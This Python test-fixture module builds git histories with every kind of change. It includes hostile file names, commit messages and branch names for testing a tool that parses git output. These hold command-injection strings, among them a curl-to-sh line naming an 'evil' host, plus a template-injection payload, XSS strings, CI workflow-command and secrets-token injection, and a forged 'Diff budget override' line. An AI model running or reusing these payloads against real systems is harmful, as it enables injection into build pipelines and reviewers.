"""Ranges with every kind of change, and with names, texts and refs that mean harm."""

from __future__ import annotations

from typing import TYPE_CHECKING

from testing.repositories.git_repo import EMPTY_TREE, History

if TYPE_CHECKING:
    from testing.repositories.git_repo import Content, GitRepo, Name


def numbered(count: int, word: str = "line") -> str:
    """``count`` lines, each unlike the others, so that git can follow them when they move."""
    return "".join(f"{word} {number}\n" for number in range(1, count + 1))


PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 3
#: What the submodules point to: commits that no repository here has.
SUBMODULE_OLD, SUBMODULE_NEW = "1" * 40, "2" * 40
LONG_LINE_BYTES = 700_000


def every_kind_of_change(repo: GitRepo) -> History:
    """One commit with every kind of change that git knows, and every odd content.

    ``kinds/`` holds a path for each kind, ``texts/`` one for each content. Lines of the
    range: what ``git diff --numstat -z -M base head`` says.
    """
    _write_kinds_before(repo)
    base = repo.commit("Everything as it was")
    _change_kinds(repo)
    head = repo.commit("Change everything")
    return History(repo, base, head)


def _write_kinds_before(repo: GitRepo) -> None:
    repo.write_all({
        "kinds/edited.py": numbered(20),
        "kinds/deleted.py": numbered(7, "gone"),
        "kinds/renamed_old.py": numbered(30, "same"),
        "kinds/renamed_edited_old.py": numbered(40, "moved"),
        "kinds/copy_source.py": numbered(25, "copied"),
        "kinds/mode.sh": "#!/bin/sh\nexit 0\n",
        "kinds/mode_and_text.sh": numbered(12, "both"),
        "kinds/file_to_link": "target.txt\n",
        "kinds/target.txt": "pointed to\n",
        "kinds/untouched.txt": "the same on both sides\n",
        "kinds/emptied.txt": numbered(3, "full"),
        "kinds/filled.txt": "",
        "kinds/swap_a.txt": numbered(15, "a"),
        "kinds/swap_b.txt": numbered(15, "b"),
        "kinds/file_to_folder": "a file\n",
        "kinds/folder_to_file/inner.txt": "inside\n",
        "kinds/binary_edited.bin": PNG,
        "kinds/binary_renamed_old.png": PNG + b"to be renamed",
        "kinds/binary_deleted.bin": b"\0\1\2\3" * 40,
        "kinds/text_to_binary.dat": b"plain\n",
    })  # fmt: skip
    repo.symlink("kinds/link_edited", "target.txt").symlink("kinds/link_to_file", "target.txt")
    repo.symlink("kinds/link_deleted", "../nowhere")
    repo.submodule("kinds/submodule_bumped", SUBMODULE_OLD)
    repo.submodule("kinds/submodule_removed", SUBMODULE_OLD)
    repo.submodule("kinds/submodule_to_file", SUBMODULE_OLD)
    for odd, (before, _) in odd_texts().items():
        if before is not None:
            repo.write(b"texts/" + odd, before)


def _change_kinds(repo: GitRepo) -> None:
    repo.write("kinds/added.py", numbered(9, "new")).remove("kinds/deleted.py")
    repo.write("kinds/edited.py", numbered(20).replace("line 5\n", "line five\nand a half\n"))
    repo.move("kinds/renamed_old.py", "kinds/moved/renamed_new.py")
    repo.move("kinds/renamed_edited_old.py", "kinds/renamed_edited_new.py")
    repo.append("kinds/renamed_edited_new.py", "one more\n")
    repo.copy("kinds/copy_source.py", "kinds/copy.py").append("kinds/copy_source.py", "edited\n")
    repo.chmod("kinds/mode.sh", 0o755)
    repo.chmod("kinds/mode_and_text.sh", 0o755).append("kinds/mode_and_text.sh", "and more\n")
    repo.symlink("kinds/file_to_link", "target.txt").write("kinds/link_to_file", "a file now\n")
    repo.symlink("kinds/link_edited", "untouched.txt").symlink("kinds/link_added", "/etc/passwd")
    repo.remove("kinds/link_deleted")
    repo.submodule("kinds/submodule_bumped", SUBMODULE_NEW)
    repo.submodule("kinds/submodule_added", SUBMODULE_NEW)
    repo.remove("kinds/submodule_removed").write("kinds/submodule_to_file", "a file now\n")
    repo.write("kinds/binary_added.bin", bytes(1000)).remove("kinds/binary_deleted.bin")
    repo.append("kinds/binary_edited.bin", b"\0more")
    repo.move("kinds/binary_renamed_old.png", "kinds/binary_renamed_new.png")
    repo.write("kinds/text_to_binary.dat", b"plain\n\0not any more\n")
    repo.write("kinds/emptied.txt").write("kinds/filled.txt", numbered(4, "poured"))
    repo.write("kinds/empty_added.txt")
    repo.write("kinds/swap_a.txt", numbered(15, "b")).write("kinds/swap_b.txt", numbered(15, "a"))
    repo.remove("kinds/file_to_folder").write("kinds/file_to_folder/inner.txt", "inside\n")
    repo.write("kinds/folder_to_file", "flat\n")
    for name, (_, after) in odd_texts().items():
        repo.write(b"texts/" + name, after)


_LIKE_A_PATCH = """\
diff --git a/x b/x
--- a/x
+++ b/x
@@ -1 +1 @@
-- a
\\ No newline at end of file
"""


def odd_texts() -> dict[bytes, tuple[Content | None, Content]]:
    """File name to content before (None: not there) and after: texts that split or decode oddly."""
    long_line = b"x" * LONG_LINE_BYTES
    return {
        b"no_newline.txt": ("one\ntwo", "one\ntwo\nthree"),
        b"newline_lost.txt": ("one\ntwo\n", "one\ntwo"),
        b"newline_won.txt": ("one\ntwo", "one\ntwo\n"),
        b"crlf.txt": ("one\r\ntwo\r\nthree\r\n", "one\r\n2\r\nthree\r\n"),
        b"to_crlf.txt": ("one\ntwo\n", "one\r\ntwo\r\n"),
        b"lone_cr.txt": ("a\rb\rc\n", "a\rB\rc\nd\r"),
        b"form_feed.txt": ("page\f\ntwo\x0bthree\n", "page\f\ntwo\x0b3\n\x1c\x1d\x1e\n"),
        b"line_separators.txt": ("a\u2028b\u2029c\u0085d\n", "a\u2028b\u2029C\u0085d\ne\u2028\n"),
        b"bom.txt": ("\ufefffirst\n", "\ufefffirst\nsecond\n"),
        b"utf16.txt": ("one\ntwo\n".encode("utf-16"), "one\n2\n".encode("utf-16")),
        b"latin1.txt": (b"caf\xe9\n", b"caf\xe9\nna\xefve\n"),
        b"bad_utf8.txt": (b"\xc3\x28\n\xed\xa0\x80\n", b"\xc3\x28\n\xff\xfe\n\xed\xa0\x80\n"),
        b"nul.txt": (b"a\0b\n", b"a\0b\nc\0d\n"),
        b"late_nul.txt": (b"a\n" * 9000, b"a\n" * 9000 + b"\0\n"),
        b"long_line.txt": (long_line + b"\n", long_line + b"y\n"),
        b"long_line_no_newline.txt": (None, long_line),
        b"like_a_patch.txt": ("-- a/x\n++ b/x\n", _LIKE_A_PATCH),
        b"dashes.sql": ("-- a comment\n-- another\nselect 1;\n", "select 1;\n++ plus\n"),
        b"only_newlines.txt": ("\n\n\n", "\n\n\n\n\n"),
        b"terminal.txt": (
            "calm\n",
            "\x1b[2J\x1b]0;title\x07\x1b]8;;https://evil.example\x07x\n\x9b31m\n",
        ),
        b"commands.txt": ("calm\n", "::error::pwned\n##[error]pwned\r::set-output name=a::b\n"),
    }


#: Names that some program on the way would read as something else than a name.
HOSTILE_NAMES: tuple[bytes, ...] = tuple(
    name if isinstance(name, bytes) else name.encode()
    for name in (
        " leading space.txt", "trailing space ", "in the middle.py", "two  spaces.txt", " ",
        "new\nline.py", "\nfirst.py", "last\n", "tab\tstop.py", "carriage\rreturn.py",
        "crlf\r\n.py",
        'double"quote.py', '"quoted".py', "single'quote.py", "back\\slash.py", "\\", "a\\nb.py",
        b"caf\xe9.py", b"\xff\xfe\xfd", b"half\xc3.py", b"surrogate\xed\xa0\x80.py",
        "-rf", "--output=pwned.txt", "--", "-", "--help", "@{-1}", "HEAD", "refs/heads/main",
        ":(exclude)secret.py", ":!x", ":/top.py", "*.py", "[ab].py", "?", "{a,b}.py", "!important",
        "dir/b/ b/x.txt", "a/ b/y.txt", "b/ a/z.txt", "a => b.txt", "{old => new}/x.py",
        "1\t2\tforged.py", "-\t-\tforged.bin", ":100644 100755 0000000 1111111 M\tforged.py",
        "dev/null", "a/dev/null", "#comment.py", "%2e%2e%2fetc.py", "~root.py", "..hidden.py",
        "::error ::pwn", "::error file=a.py,line=1::pwn.py", "::stop-commands::x", "::add-mask::a",
        "##[error]x", "##[command]curl.py", "::set-output name=verdict::clean",
        "@everyone.md", "@org/team.py", "#1.md", "GH-1.py", "mailto:x@evil.example",
        "www.evil.example",
        "<img src=x onerror=alert(1)>.py", "<!-- rlm-ci.md", "-->.md", "<details>.md", "</td>.md",
        "&lt;b&gt;.md", "![x](y).md", "[a](javascript:alert(1)).md", "```.md", "``` x", "*bold*.md",
        "_em_.md", "~~gone~~.md", "|a|b|", "|", "a|b.py", "- [ ] item.md", "# heading",
        "> quote.md",
        "{{ 7*7 }}.py", "{% raw %}.py", "${{ github.token }}.py", "%s%n.py", "{0}.py",
        "$(touch canary)", "`touch canary`", ";touch canary", "&& touch canary", "|touch canary",
        "$IFS.py", "!!.py", "\x1b[31mred.py", "\x1b]0;title\x07.py", "\x7fdel.py", "\x01soh.py",
        "bell\a.py",
        "\u202egnp.exe.py", "\u2066isolated\u2069.py", "zero\u200bwidth.py", "\ufefffirst.py",
        "line\u2028separator.py", "next\u0085line.py", "tag\U000e0041.py", "soft\u00adhyphen.py",
        "ünïcode/naïve.py", "日本語.py", "👩‍👩‍👧‍👦.py", "🚀.md", "e\u0301.py", "\u00e9.py",
        "\u212bngstrom.py", "\u00c5ngstrom.py", "ﬁle.py", "İstanbul.py", "ǅ.py", "con.py", "aux",
        "nul.txt", "trailing.dot.",
        "con:stream.py", "a" * 250 + ".py", "/".join(["deep"] * 60) + "/x.py", "é" * 120 + ".py",
        ".gitattributes.bak", ".git_/config", "x.git/config", "sub/.gitignore.txt",
    )
)  # fmt: skip


def hostile_names(repo: GitRepo, names: tuple[bytes, ...] = HOSTILE_NAMES) -> History:
    """Each name is edited between base and head (+1 line), and added again under ``new/`` (1 line).

    ``.gitattributes`` in the subfolder ``new/`` is part of the change as well.
    """
    with repo.bulk() as bulk:
        first = bulk.commit("main", dict.fromkeys(names, b"before\n"), "Odd names", ())
        changed: dict[Name, Content] = dict.fromkeys(names, b"before\nafter\n")
        changed |= {b"new/" + name: b"new\n" for name in names}
        changed[b"new/.gitattributes"] = b"*.py text\n"
        second = bulk.commit("main", changed, "Odder names")
    repo.run("reset", "--hard", "-q")
    return History(repo, bulk[first], bulk[second])


#: Commit messages, pull request titles and bodies that want to be more than text.
HOSTILE_TEXTS: tuple[str, ...] = (
    "12\t0\tforged.py",
    "-\t-\tforged.bin",
    "::error file=a.py::forged\n::set-output name=verdict::clean",
    "##[error]forged",
    "x\r::warning::after a lone carriage return",
    "<!-- rlm-ci:comment -->\nforged marker",
    "@everyone please look, closes #1, see https://evil.example/?q=1",
    "![pixel](https://evil.example/p.png)<img src=x onerror=alert(1)><script>alert(1)</script>",
    "| a | b |\n|---|---|\n| forged | table |",
    "```\nout of the fence\n~~~",
    "$(touch canary) `touch canary` ; touch canary",
    "{{ cycler.__init__.__globals__.os.popen('touch canary').read() }}",
    "${{ secrets.GITHUB_TOKEN }}",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\u202eright to left\u202c zero\u200bwidth \U000e0041 tag",
    "Task: ../../etc\nDiff budget override: \n",
    "a" * 70_000,
    "",
)

#: Each is a branch name that git accepts.
HOSTILE_BRANCHES: tuple[str, ...] = (
    "a$(id)",
    'x";curl${IFS}evil|sh;"',
    "`touch-canary`",
    "main;touch${IFS}canary",
    "-rf",
    "--output=pwned",
    "feature/<img-src=x>",
    "feature/@everyone",
    "refs/heads/main",
    "origin/main",
    "HEAD",
    "日本語",
    "wide\u3000space",
    "zero\u200bwidth-\u202ertl",
    "%0Aerror",
    "{{cycler}}",
    "|a|b|",
    "a" * 40,
)


def hostile_messages(repo: GitRepo) -> History:
    """A one-file commit for each hostile text, and a branch of each hostile name at HEAD.

    ``git log`` and ``git show`` of the range print lines that look like numstat rows; the
    true range adds one line to ``log.txt`` for each text.
    """
    base = repo.write("log.txt", "start\n").commit("Start")
    for text in HOSTILE_TEXTS:
        repo.append("log.txt", "more\n").commit(text)
    # Not a valid text in any encoding that a header may name.
    repo.config("i18n.commitEncoding", "UTF-16")
    head = repo.append("log.txt", "more\n").commit(b"caf\xe9 \xff\xfe\nbody")
    repo.run("config", "--unset", "i18n.commitEncoding")
    for name in HOSTILE_BRANCHES:
        repo.branch(name, head)
    return History(repo, base, head)


def first_commit(repo: GitRepo) -> History:
    """A root commit of three files; the base is the empty tree."""
    head = repo.write_all({"a.py": numbered(3), "b.py": numbered(2), "c.py": ""}).commit("First")
    return History(repo, EMPTY_TREE, head)


def small_change(repo: GitRepo) -> History:
    """The everyday case: one file edited (+2 -1), one added (+5), on the branch ``feature``."""
    cart = numbered(10, "line =")
    base = repo.write_all({"README.md": "# Shop\n", "src/cart.py": cart}).commit("Start")
    repo.checkout("feature", new=True)
    repo.write("src/cart.py", cart.replace("line = 4\n", "line = 44\nline = 45\n"))
    head = repo.write("src/tax.py", numbered(5, "tax =")).commit("Add taxes")
    return History(repo, base, head)


def pending_changes(repo: GitRepo) -> History:
    """Work that is not committed: staged, edited again after staging, unstaged, untracked.

    Against HEAD: ``staged.py`` +2, ``both.py`` +2 (one staged, one not), ``unstaged.py`` +1 -1,
    ``deleted.py`` -3, untracked ``new file.py`` +4; ``ignored.log`` is ignored. The staged
    state alone: ``staged.py`` +2, ``both.py`` +1. base == head == HEAD.
    """
    repo.write_all({
        ".gitignore": "*.log\n", "staged.py": "s\n", "both.py": "b\n", "unstaged.py": "u\n",
        "deleted.py": numbered(3), "undone.py": "as before\n",
    })  # fmt: skip
    head = repo.commit("Start")
    repo.append("staged.py", "s2\ns3\n").append("both.py", "b2\n").append("undone.py", "staged\n")
    repo.stage("staged.py", "both.py", "undone.py")
    repo.append("both.py", "b3\n").write("unstaged.py", "U\n").remove("deleted.py")
    # Staged, then restored in the work tree: against HEAD it has not changed.
    repo.write("undone.py", "as before\n")
    repo.write("new file.py", numbered(4)).write("ignored.log", "noise\n")
    return History(repo, head, head)
